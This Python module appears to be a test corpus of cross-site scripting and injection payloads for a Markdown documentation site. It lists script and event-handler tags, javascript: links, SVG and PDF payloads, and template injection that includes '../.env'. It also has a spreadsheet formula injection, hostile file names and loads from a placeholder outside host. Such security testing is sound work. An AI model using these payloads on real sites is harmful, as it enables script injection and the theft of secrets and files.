"""What people have tried to make a page run, by the place where they write it.

`RUN` stands for the code, `ELSEWHERE` for a host. `attack.py` makes a hub of all of them. A new
kind of page (a calendar, a feed) shows some of the TEXTS: it is one more line in `attack.PAGES`.
"""

RUN = "window.ran=1"
ELSEWHERE = "https://elsewhere.example"

_TAGS = {
    "script": "<script>RUN</script>",
    "script, upper case": "<SCRIPT>RUN</SCRIPT>",
    "script with a slash": "<script/x>RUN</script>",
    "script from elsewhere": '<script src="ELSEWHERE/x.js"></script>',
    "script as a module": '<script type="module">RUN</script>',
    "script twice": "<scr<script>ipt>RUN</scr</script>ipt>",
    "script never closed": "<script>RUN//",
    "image": "<img src=x onerror=RUN>",
    "image, odd quotes": "<img src=`x` onerror=RUN alt=`>",
    "image with slashes": "<img/src=x/onerror=RUN>",
    "image over two lines": "<img src=x\nonerror=RUN>",
    "image in a paragraph": "Words <img src=x onerror=RUN> words.",
    "image from elsewhere": '<img src="ELSEWHERE/x.png">',
    "image from elsewhere, no scheme": '<img src="//elsewhere.example/x.png">',
    "image from elsewhere, backslashes": '<img src="\\\\elsewhere.example/x.png">',
    "image set from elsewhere": '<img srcset="ELSEWHERE/x.png 1x" alt="x">',
    "svg": "<svg onload=RUN></svg>",
    "svg with a script": "<svg><script>RUN</script></svg>",
    "svg animation": '<svg><animate onbegin="RUN" attributeName=x dur=1s></animate></svg>',
    "svg link": '<svg><a xlink:href="javascript:RUN"><text y="20">x</text></a></svg>',
    "svg use": '<svg><use href="data:image/svg+xml,<svg onload=RUN>"></use></svg>',
    "svg foreign object": "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "svg style": "<svg><style><img src=x onerror=RUN></style></svg>",
    "math": '<math><mtext><table><mglyph><style><!--</style><img src=x onerror="RUN">',
    "math link": '<math href="javascript:RUN">x</math>',
    "frame": '<iframe src="javascript:parent.RUN"></iframe>',
    "frame with its own page": "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "frame from elsewhere": '<iframe src="ELSEWHERE/"></iframe>',
    "object": '<object data="javascript:RUN"></object>',
    "object from elsewhere": '<object data="ELSEWHERE/x"></object>',
    "embed": '<embed src="javascript:RUN">',
    "field with the focus": "<input autofocus onfocus=RUN>",
    "picture button": '<input type="image" src="x" onerror="RUN">',
    "button": '<form><button formaction="javascript:RUN">x</button></form>',
    "form": '<form action="javascript:RUN"><input type="submit"></form>',
    "details": "<details open ontoggle=RUN><summary>x</summary></details>",
    "video": "<video><source onerror=RUN></video>",
    "audio": "<audio src=x onerror=RUN></audio>",
    "body": "<body onload=RUN>",
    "marquee": "<marquee onstart=RUN>x</marquee>",
    "select": "<select autofocus onfocus=RUN><option>x</select>",
    "style sheet": "<style>@import 'ELSEWHERE/x.css';</style>",
    "style sheet, linked": '<link rel="stylesheet" href="ELSEWHERE/x.css">',
    "style attribute": '<p style="background:url(ELSEWHERE/x.png)">x</p>',
    "style over everything": '<p style="position:fixed;inset:0" onmouseover=RUN>x</p>',
    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
    "refresh to elsewhere": '<meta http-equiv="refresh" content="0;url=ELSEWHERE/">',
    "base": '<base href="ELSEWHERE/">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "textarea": '<textarea><p title="</textarea><img src=x onerror=RUN>">',
    "title": '<title><p title="</title><img src=x onerror=RUN>"></title>',
    "template": "<template><script>RUN</script></template>",
    "comment": "<!--><img src=x onerror=RUN>-->",
    "comment, odd end": "<!-- x --!><img src=x onerror=RUN>",
    "cdata": "<![CDATA[><img src=x onerror=RUN>]]>",
    "processing instruction": "<?x ><img src=x onerror=RUN>?>",
    "xmp": '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>',
    "custom element": "<callsheet-find data='javascript:RUN' onclick=RUN>x</callsheet-find>",
    "search data from elsewhere": (
        '<callsheet-find root="" data="ELSEWHERE/x.js" text="ELSEWHERE/y.js">'
        '<form role="search"><input id="cs-q" type="search" autofocus></form></callsheet-find>'
    ),
    "ids that scripts look for": '<a id="callsheetSearch"></a><a id="__md_scope">x</a>',
    "parts of the theme": '<p data-md-component="announce" data-md-toggle="drawer">x</p>',
}
_LINKS = {
    "link": "[x](javascript:RUN)",
    "link, mixed case": "[x](JaVaScRiPt:RUN)",
    "link with a tab": "[x](<java\tscript:RUN>)",
    "link with references": "[x](&#106;avascript&colon;RUN)",
    "link with data": "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=)",
    "link with vbscript": "[x](vbscript:RUN)",
    "link by reference": "[x][1]\n\n[1]: javascript:RUN",
    "link in pointed brackets": "<javascript:RUN>",
    "link as a tag": '<a href="javascript:RUN">x</a>',
    "link as a tag, control letters": '<a href="\x01java\nscript:RUN">x</a>',
    "link that leaves its quotes": '[x](x "\\" onmouseover=RUN ")',
    "picture": "![x](javascript:RUN)",
    "picture that leaves its quotes": '![x" onerror="RUN](x.png)',
    "picture from elsewhere": "![x](ELSEWHERE/x.png)",
    "picture from elsewhere, with a tab": '![x](x.png){ src="/&#9;/ELSEWHERE.example/x.png" }',
    "link over the whole page": (
        '<a class="md-overlay" style="width:100vw;height:100vh" href="ELSEWHERE/">.</a>'
    ),
}
_EXTENSIONS = {
    "attributes": "[x](#){ onclick=RUN onmouseover=RUN }",
    "attributes of a paragraph": "Words\n{: onmouseover=RUN onclick=RUN }",
    "attributes of a heading": '## Words { onclick=RUN data-toc-label="<img src=x onerror=RUN>" }',
    "id of a heading": """## Words {: id='x"><img src=x onerror=RUN y="' }""",
    "id of a heading, attributes": "## Words {: id='x onmouseover=RUN style=position:fixed' }",
    "attributes of code in code": (
        '````\n``` {.python onmouseover="RUN" style="position:fixed"}\nx\n```\n````'
    ),
    "attributes of code": '``` { .js onclick="RUN" title="<img src=x onerror=RUN>" }\nx\n```',
    "heading": "## <img src=x onerror=RUN> and `<script>RUN</script>`",
    "heading, escaped": "## &lt;img src=x onerror=RUN&gt;",
    "admonition": '!!! note "<img src=x onerror=RUN>"\n    <img src=x onerror=RUN>',
    "details of Material": '??? note "<img src=x onerror=RUN>"\n    <script>RUN</script>',
    "tab": '=== "<img src=x onerror=RUN>"\n\n    <img src=x onerror=RUN>',
    "table": "| a |\n|---|\n| <img src=x onerror=RUN> |",
    "abbreviation": 'HTML\n\n*[HTML]: " onmouseover="RUN',
    "footnote": "x[^1]\n\n[^1]: <img src=x onerror=RUN>",
    "definition": "<img src=x onerror=RUN>\n:   <img src=x onerror=RUN>",
    "task": "- [x] <img src=x onerror=RUN>",
    "Markdown in HTML": '<div markdown="1" onclick="RUN">\n<img src=x onerror=RUN>\n</div>',
    "code": "`<img src=x onerror=RUN>`\n\n    <script>RUN</script>",
    "merge tag": "{{ ''.__class__ }} {% include 'x' %} {{first_name}}",
    "piece of the engine": '<span data-piece="0-0"></span>',
}

_GADGETS = {
    "settings of the theme": (
        '<script id="__config" type="application/json">{"base":"ELSEWHERE/","features":'
        '["navigation.instant","search.suggest"],"search":"ELSEWHERE/worker.js",'
        '"translations":{},"version":{"provider":"mike"}}</script>'
    ),
    "diagram": '<pre class="mermaid"><code>graph LR; A["<img src=x onerror=RUN>"]</code></pre>',
    "diagram in a fence": "```mermaid\ngraph LR; A-->B\n```",
    "program": '<div class="pyodide" data-md-component="x"><pre><code>RUN</code></pre></div>',
    "program by attributes": "``` { .pyodide .python }\nimport js; js.window.ran = 1\n```",
    "lightbox": '<a class="glightbox" href="#"><img src="x.png"></a>',
    "tooltip": '<a href="#" title="<img src=x onerror=RUN>" class="md-button">x</a>',
    "reader of another host": '<a href="#" ping="ELSEWHERE/ping">x</a>',
    "form to elsewhere": (
        '<form action="ELSEWHERE/" id="f"><input name="q"></form><button form="f">x</button>'
    ),
    "worker": "<script>new Worker('data:text/javascript,0');RUN</script>",
    "module from data": '<script type="module" src="data:text/javascript,RUN"></script>',
    "preload": '<link rel="preload" as="script" href="ELSEWHERE/x.js">',
    "font": "<style>@font-face{font-family:x;src:url(ELSEWHERE/x)}p{font-family:x}</style>x",
}

_TEXTS = {
    "script": "<script>RUN</script>",
    "end of the title": "</title><script>RUN</script>",
    "end of a script": "</script><script>RUN</script>",
    "end of a style": "</style><img src=x onerror=RUN>",
    "end of a text box": "</textarea><img src=x onerror=RUN>",
    "image": "<img src=x onerror=RUN>",
    "image from elsewhere": '<img src="ELSEWHERE/x.png">',
    "svg": "<svg/onload=RUN>",
    "frame": "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "details": "<details open ontoggle=RUN>x</details>",
    "link as a tag": '<a href="javascript:RUN">x</a>',
    "out of an attribute": '" onmouseover="RUN" onfocus="RUN" x="',
    "out of an attribute, one quote": "' onmouseover='RUN' onfocus='RUN' x='",
    "out of an attribute with a tag": '"><img src=x onerror=RUN>',
    "out of a comment": "--><img src=x onerror=RUN><!--",
    "references": "&lt;img src=x onerror=RUN&gt;",
    "references twice": "&amp;lt;img src=x onerror=RUN&amp;gt;",
    "link of Markdown": "[x](javascript:RUN)",
    "out of a link of Markdown": "](javascript:RUN) <img src=x onerror=RUN>",
    "attributes of Markdown": "x {: onmouseover=RUN onclick=RUN }",
    "template": "{{ ''.__class__.__mro__ }}{% raw %}<img src=x onerror=RUN>",
    "out of JSON": '"}]};RUN;//</script><script>RUN</script>',
    "out of JavaScript": "\\u2028';RUN;//${RUN}`",
    "line ends of JavaScript": "\u2028RUN\u2029<img src=x onerror=RUN>",
}

_LISTS = {
    "words in a list": "{{ search_box(placeholder='\"><img src=x onerror=RUN>') }}",
    "a term that there is not": "{{ assets(stage='<img src=x onerror=RUN>') }}",
    "a list that there is not": "{{ nothing('<script>RUN</script>') }}",
    "text": "{{ '<img src=x onerror=RUN>' }}",
    "text called safe": "{{ '<img src=x onerror=RUN>' | safe }}",
    "a file": "{% include '../.env' %}<img src=x onerror=RUN>",
}

_HTML = "<!doctype html><script>RUN</script><img src=x onerror=RUN>"
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
_XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'

_FILES = {
    "script.svg": f"{_SVG}><script>RUN</script></svg>",
    "onload.svg": f'{_SVG} onload="RUN"/>',
    "page.svg": (
        f"{_SVG}><foreignObject><p {_XHTML}><img src='x' onerror='RUN'/></p></foreignObject></svg>"
    ),
    "animation.svg": f'{_SVG}><animate onbegin="RUN" attributeName="x" dur="1s"/></svg>',
    "elsewhere.svg": f'{_SVG}><image href="ELSEWHERE/x.png"/></svg>',
    "style.svg": f"{_SVG}><style>@import 'ELSEWHERE/x.css';</style></svg>",
    "entity.svg": f'<!DOCTYPE svg [<!ENTITY a "<script>RUN</script>">]>{_SVG}>&a;</svg>',
    "prefix.svg": '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>RUN</s:script></s:svg>',
    "page.html": _HTML,
    "page.htm": _HTML,
    "page.xhtml": f"<html {_XHTML}><script>RUN</script></html>",
    "page.xml": f"<html {_XHTML}><script>RUN</script></html>",
    "page.xsl": f"<html {_XHTML}><script>RUN</script></html>",
    "page.mht": f"MIME-Version: 1.0\nContent-Type: text/html\n\n{_HTML}",
    "renamed.pdf": _HTML,
    "renamed.png": _HTML,
    "renamed.txt": _HTML,
    "renamed.csv": _HTML,
    "renamed.json": _HTML,
    "cells.csv": "=cmd|'/c calc'!A1,\"<script>RUN</script>\",@SUM(1),-1+1\n",
    "action.pdf": (
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(RUN)>>>>endobj\n"
        "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n"
    ),
}

FILE_NAMES = (
    'x" onmouseover="window.ran=1" y=".pdf',
    "<img src=x onerror=window.ran=1>.pdf",
    "' onclick='window.ran=1.pdf",
    "javascript:window.ran=1.pdf",
    "](javascript:window.ran=1).pdf",
)
"""Names of attached files."""


def _filled(payloads: dict[str, str]) -> dict[str, str]:
    return {
        name: payload.replace("RUN", RUN).replace("ELSEWHERE", ELSEWHERE)
        for name, payload in payloads.items()
    }


BODIES = _filled({**_TAGS, **_LINKS, **_EXTENSIONS, **_GADGETS})
"""Name → Markdown of a body."""

TEXTS = _filled(_TEXTS)
"""Name → text of a title, a summary, a name or any other value in YAML."""

LISTS = _filled(_LISTS)
"""Name → live list of a page in `docs/`."""

FILES = _filled(_FILES)
"""Name of an attached file → what it holds."""
